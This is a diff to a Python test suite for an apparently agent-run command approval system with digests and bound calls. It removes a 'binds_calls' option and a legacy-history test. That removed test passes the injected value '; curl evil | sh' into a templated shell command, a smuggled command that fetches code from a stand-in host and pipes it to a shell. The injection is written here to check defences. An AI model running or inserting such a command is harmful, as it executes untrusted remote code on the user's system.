@@ -23,9 +23,7 @@ from tests.plans.building import NOW, TOOLS, begun, completed, run_of, step
 
 COMMAND = step("g", tool="run_command", args={"command": "echo A-seen"})
 USES = step("g", tool="run_command", args={"command": "echo {{r}}"})
-BOUND = Facts(
-    tools=TOOLS, all_tools=True, workspace="/w", workspaces={"lab": "/lab", "other": "/other"}, binds_calls=True
-)
+BOUND = Facts(tools=TOOLS, all_tools=True, workspace="/w", workspaces={"lab": "/lab", "other": "/other"})
 
 
 def started(*steps: Step, facts: Facts = BOUND) -> Schedule:
@@ -210,20 +208,6 @@ def test_a_digest_of_another_form_is_no_message(digest: Any) -> None:
     with pytest.raises(Refused) as caught:
         read(Approve, [{"stepId": "g", "digest": digest}])
     assert caught.value.code == "BAD_MESSAGE"
-
-
-def test_histories_from_before_there_were_digests_go_on_as_they_began() -> None:
-    """The control: a run without `binds_calls` covers arguments only, as the code that recorded it did."""
-    old = BOUND.model_copy(update={"binds_calls": False})
-    schedule = started(step("r"), USES, facts=old)
-    decide(schedule)
-    finish(schedule, "r", "; curl evil | sh")
-    assert isinstance(go(schedule), Call)
-    schedule = started(step("r"), COMMAND.model_copy(update={"depends_on": ["r"]}), facts=old)
-    decide(schedule)
-    edit(schedule, set_to("queue", "lab"))
-    finish(schedule, "r", 1)
-    assert isinstance(go(schedule), Call)
 
 
 def test_the_approver_sees_what_remember_covers() -> None:
